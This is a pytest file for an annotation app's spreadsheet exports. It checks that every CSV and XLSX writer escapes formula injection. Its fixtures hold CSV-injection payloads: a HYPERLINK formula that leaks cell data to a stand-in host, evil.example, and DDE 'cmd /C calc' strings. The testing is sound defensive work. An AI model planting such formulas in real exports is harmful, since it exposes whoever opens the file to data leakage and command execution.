"""Every CSV and XLSX the app writes neutralises spreadsheet formulas: a text
cell starting with = + - @ (or tab, CR) gets one apostrophe
(annotate/io/spreadsheets.py), in each writer, with text people can actually enter
there (titles, source and label names, notes, usernames). One test per writer:
the annotation export (command and download), the admin's import-export
exports, the reports downloads and the team agreement download."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.urls import reverse

from annotate import permissions
from annotate.io.spreadsheets import FORMULA_TRIGGERS
from annotate.models import Label
from tests.conftest import make_annotation, make_article, make_assignment, make_user

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SOURCE = "+cmd|' /C calc'!A0"
NOTE = "-2+3"
SPEAKER = "@SUM(1+1)*cmd|' /C calc'!A0"
LABEL = "=1+1 label"
REVIEWER_A, REVIEWER_B = "@ann", "-ben"  # usernames may start with @ and -
PAYLOADS = {TITLE, SOURCE, NOTE, SPEAKER, LABEL, REVIEWER_A, REVIEWER_B}


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows(values_only=True) for cell in row]


def assert_neutralised(cells: list, expected: set[str]):
    """No text cell starts with a trigger, and each expected payload is there
    with exactly one apostrophe before it."""
    live = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_TRIGGERS)]
    assert live == []
    assert {c[1:] for c in cells if isinstance(c, str) and c[1:] in expected and c[0] == "'"} == expected


@pytest.fixture
def reviewed(labels):
    """An article with formula-like title and source, reviewed by two reviewers
    whose usernames start with @ and -, with formula-like notes and speakers."""
    reviewers = [make_user(REVIEWER_A), make_user(REVIEWER_B)]
    group = Group.objects.get(name=permissions.REVIEWER_GROUP)
    for reviewer in reviewers:
        reviewer.groups.add(group)
    label = Label(name=LABEL, slug="formula", colour="#123456", order=9)
    label.full_clean()
    label.save()
    article = make_article("Lukashenko met Xi in Beijing. They spoke.", title=TITLE, source=SOURCE)
    for reviewer in reviewers:
        make_assignment(article, reviewer, status="submitted")
        make_annotation(article, label, reviewer, quote="Xi", note=NOTE, speaker=SPEAKER)
        make_annotation(article, labels["fact"], reviewer, quote="Beijing")
    return article


def test_the_annotation_export_command_neutralises_formulas_in_csv_and_xlsx(reviewed, tmp_path):
    for export_format, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
        path = tmp_path / f"out.{export_format}"
        call_command("export_annotations", "--format", export_format, "--output", str(path))
        assert_neutralised(read(path.read_bytes()), {TITLE, SOURCE, NOTE, SPEAKER, LABEL, REVIEWER_A, REVIEWER_B})


def test_the_annotation_download_neutralises_formulas_in_csv_and_xlsx(reviewed, lena_client):
    for export_format, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
        response = lena_client.get(reverse("export-annotations"), {"format": export_format})
        assert response.status_code == 200
        assert_neutralised(read(b"".join(response.streaming_content)), PAYLOADS)


@pytest.mark.parametrize(
    ("model", "fields", "expected"),
    [
        ("annotation", ["article_title", "source", "label_name", "note", "speaker", "reviewer"], PAYLOADS),
        ("article", ["title", "source"], {TITLE, SOURCE}),
        ("source", ["name"], {SOURCE}),
        ("label", ["name"], {LABEL}),
    ],
)
@pytest.mark.parametrize(("file_format", "read"), [("0", csv_cells), ("1", xlsx_cells)], ids=["csv", "xlsx"])
def test_the_admin_exports_neutralise_formulas(reviewed, admin_client_, model, fields, expected, file_format, read):
    prefix = f"{model}resource_"
    response = admin_client_.post(
        reverse(f"admin:annotate_{model}_export"),
        {"format": file_format, "resource": "0", **{prefix + name: "on" for name in fields}},
    )

    assert response.status_code == 200
    assert_neutralised(read(response.content), expected)


@pytest.mark.parametrize("shape", ["sources", "articles"])
def test_the_report_downloads_neutralise_formulas_in_csv_and_xlsx(reviewed, lena_client, shape):
    expected = {SOURCE} if shape == "sources" else {TITLE, SOURCE}
    for export_format, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
        response = lena_client.get(reverse("report-download", args=[shape, export_format]))
        assert response.status_code == 200
        assert_neutralised(read(response.content), expected)


def test_the_team_agreement_download_neutralises_formulas(reviewed, lena_client):
    response = lena_client.get(reverse("team-download", args=["csv"]))

    assert response.status_code == 200
    assert_neutralised(csv_cells(response.content), {REVIEWER_A, REVIEWER_B})
